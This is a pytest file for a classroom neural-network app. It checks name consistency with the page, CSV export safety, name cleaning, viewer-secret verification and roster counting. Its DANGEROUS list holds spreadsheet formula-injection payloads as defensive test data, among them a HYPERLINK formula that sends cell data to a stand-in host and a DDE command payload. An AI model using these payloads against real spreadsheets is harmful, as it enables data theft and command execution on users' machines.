"""Polls as the page names them, a CSV a spreadsheet opens safely, identities that hold.

The server's names for neurons and weights (app/rooms/names.py) are checked against
the page's own (static/js/layout.js, run by node) for every layout the settings allow;
polls.csv neutralises every cell a spreadsheet would read as a formula (OWASP) and
keeps names short and free of control characters; a viewer id is only ever taken
with the secret the server issued with it.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from app.engine import Trainer, TrainingConfig
from app.rooms.exports import MAX_NAME, clean_name, polls_csv, safe_cell
from app.rooms.identity import issue, secret_for, verify
from app.rooms.names import neuron_name, weight_name
from app.rooms.polls import open_poll
from app.rooms.roster import Roster

ROOT = Path(__file__).resolve().parents[2]
#: (inputs, hidden layers, biases): every shape the settings allow, in kind
LAYOUTS = [(2, (n,), True) for n in range(1, 9)] + [
    (2, (3, 2), True), (2, (2, 2, 2), True), (2, (8, 8, 8), True), (2, (1, 4), True),
    (1, (1,), False), (1, (1,), True), (2, (2,), False), (1, (3,), False), (1, (1, 1), False)]


def page_names(layouts: list[tuple[int, tuple[int, ...], bool]]) -> dict[str, list[str]]:
    """Every neuron's and weight's name per layout, from the page's layout.js (node)."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    script = f"""
    import {{ neuronLabel, weightLabel }} from "{(ROOT / 'static/js/layout.js').as_uri()}";
    const out = {{}};
    for (const [inputs, hidden, bias] of {json.dumps(layouts)}) {{
      const sizes = [inputs, ...hidden, 1];
      const names = [];
      sizes.forEach((n, l) => {{
        for (let j = 0; j < n; j++) names.push(neuronLabel(sizes, l, j));
      }});
      for (let l = 0; l < sizes.length - 1; l++)
        for (let j = 0; j < sizes[l + 1]; j++)
          for (let i = 0; i < sizes[l] + (bias ? 1 : 0); i++)
            names.push(weightLabel(sizes, l, j, i, bias));
      out[`${{sizes.join("-")}}${{bias ? "" : " no bias"}}`] = names;
    }}
    console.log(JSON.stringify(out));
    """
    done = subprocess.run([node, "--input-type=module", "-e", script], capture_output=True,
                          text=True, check=True, timeout=60)
    return json.loads(done.stdout)


def test_the_server_names_neurons_and_weights_as_the_page_does() -> None:
    page = page_names(LAYOUTS)
    for inputs, hidden, bias in LAYOUTS:
        sizes = (inputs, *hidden, 1)
        names = [neuron_name(sizes, layer, j) for layer, n in enumerate(sizes)
                 for j in range(n)]
        names += [weight_name(sizes, layer, j, i, bias) for layer in range(len(sizes) - 1)
                  for j in range(sizes[layer + 1]) for i in range(sizes[layer] + bias)]
        key = "-".join(map(str, sizes)) + ("" if bias else " no bias")
        assert names == page[key], key
    assert weight_name((2, 2, 1), 1, 0, 0) == "w₁,₁"
    assert weight_name((2, 2, 1), 0, 0, 2) == "v₁,₀"  # the bias is input 0, as on the page


def test_poll_questions_and_choices_use_the_page_names() -> None:
    trainer = Trainer(TrainingConfig(hidden=(2,)))
    poll = open_poll(trainer, "weight_direction", target={"layer": 0, "neuron": 1, "input": 2},
                     unit="epoch")
    assert poll.question == "Will v₂,₀ go up or down over the next epoch?"
    assert poll.detail["weight"] == "v₂,₀"
    deep = open_poll(Trainer(TrainingConfig(hidden=(2, 2))), "largest_delta")
    assert [c["label"] for c in deep.choices] == ["h¹₁", "h¹₂", "h²₁", "h²₂", "r"]


DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
             "\tTAB", "\r=1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_csv_cell_starts_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert not str(safe_cell(text)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-0.2435, 3, "-0.2375", "12", None, True)] == [
        "-0.2435", "3", "-0.2375", "12", "", "yes"]


def test_names_are_cut_and_cleaned() -> None:
    assert clean_name("  Ada \n Lovelace\t") == "Ada Lovelace"
    assert clean_name("Bob\u202e\u200bevil\x00\x07") == "Bobevil"  # bidi, zero width, NUL
    assert clean_name("x" * 500) == "x" * MAX_NAME
    assert clean_name(None) == "" and clean_name(42) == ""


def test_polls_csv_with_hostile_names_opens_safely_with_the_pages_words() -> None:
    trainer = Trainer(TrainingConfig(seed=2))
    poll = open_poll(trainer, "weight_direction", target={"layer": 1, "neuron": 0, "input": 0},
                     question="=1+1 will it?")
    for n, name in enumerate(DANGEROUS):
        poll.answer(f"v{n}", name, ["up", "down", "same"][n % 3])
    poll.reveal(poll.watch.prediction, None)
    delta = open_poll(trainer, "largest_delta")
    delta.answer("v0", "Ada", "0:1")
    text = polls_csv("ACDEFG", [poll, delta], {"v1": "=renamed()"})
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), row
    assert rows[0]["question"] == "'=1+1 will it?"
    assert rows[1]["name"] == "'=renamed()"  # the newest name, neutralised
    assert rows[0]["about"] == "w₁,₁ over the next pattern"
    assert {r["answer"] for r in rows[:len(DANGEROUS)]} == {"up", "down", "stays the same"}
    assert rows[-1]["answer"] == "h₂" and rows[-1]["right"] == ""  # not revealed: no verdict
    assert rows[0]["correct"] in {"up", "down", "stays the same"}
    assert float(rows[0]["before"]) == poll.detail["before"]


def test_a_viewer_id_is_taken_only_with_its_secret() -> None:
    key = "k" * 64
    viewer, secret = issue(key, "ACDEFG")
    assert len(viewer) >= 22 and len(secret) == 43
    assert verify(key, "ACDEFG", viewer, secret)
    wrong = secret[:-1] + ("B" if secret.endswith("A") else "A")  # one character off
    others = [(viewer, None), (viewer, ""), (viewer, wrong), (viewer + "x", secret),
              (None, secret), (viewer, secret_for("other key", "ACDEFG", viewer))]
    assert not any(verify(key, "ACDEFG", v, s) for v, s in others)
    assert not verify(key, "HJKMNP", viewer, secret)  # another room's identity
    ids = {issue(key, "ACDEFG")[0] for _ in range(200)}
    assert len(ids) == 200
    # the CSV's student column shows them as issued: none is a cell the formula guard quotes
    assert all(safe_cell(v) == v and len(v) <= 64 for v in ids)


def test_the_roster_counts_fresh_reports_and_the_best_link() -> None:
    now = [0.0]
    roster = Roster(clock=lambda: now[0])
    roster.report({"host": "a", "students": [{"id": "1", "name": "Ada", "link": "behind"},
                                             {"id": "2", "name": "=x", "link": "live"}]})
    roster.report({"host": "b", "students": [{"id": "1", "name": "Ada", "link": "live"},
                                             {"id": 3}, "junk"]})
    assert {k: v["link"] for k, v in roster.present().items()} == {"1": "live", "2": "live"}
    now[0] = 3.0
    roster.report({"host": "b", "students": []})
    now[0] = 6.0  # host a's report is stale: its students count as gone
    assert roster.present() == {}
    listing = roster.listing()
    assert [(r["n"], r["name"], r["link"]) for r in listing] == [(2, "=x", "offline"),
                                                                  (1, "Ada", "offline")]
    for bad in ({"host": 3}, {"host": "c", "students": "x"}, {}):
        roster.report(bad)  # ignored, never raises
    assert list(itertools.islice(roster.names(), 2)) == ["1", "2"]


def test_the_roster_sums_the_students_turned_away_over_processes_and_skips_junk() -> None:
    roster = Roster()
    assert roster.turned_away() == []
    roster.report({"host": "a", "students": [],
                   "turned_away": {"ROOM_STUDENTS_PER_ADDRESS": [2, 60]}})
    roster.report({"host": "b", "students": [],
                   "turned_away": {"ROOM_STUDENTS_PER_ADDRESS": [3, 60],
                                   "ROOM_MAX_STUDENTS": [1, 250], "ROOT": [9, 9]}})
    roster.report({"host": "a", "students": [],  # a's newest report replaces its last
                   "turned_away": {"ROOM_STUDENTS_PER_ADDRESS": [4, 60]}})
    for junk in ([1, 2], {"ROOM_MAX_STUDENTS": [True, 1]}, {"ROOM_MAX_STUDENTS": [-1, 5]},
                 {"ROOM_MAX_STUDENTS": [1.5, 5]}, {"ROOM_MAX_STUDENTS": [10**12, 5]},
                 {"ROOM_MAX_STUDENTS": "many"}):
        roster.report({"host": "c", "students": [], "turned_away": junk})  # skipped
    assert roster.turned_away() == [
        {"cap": "ROOM_STUDENTS_PER_ADDRESS", "count": 7, "most": 60},
        {"cap": "ROOM_MAX_STUDENTS", "count": 1, "most": 250}]
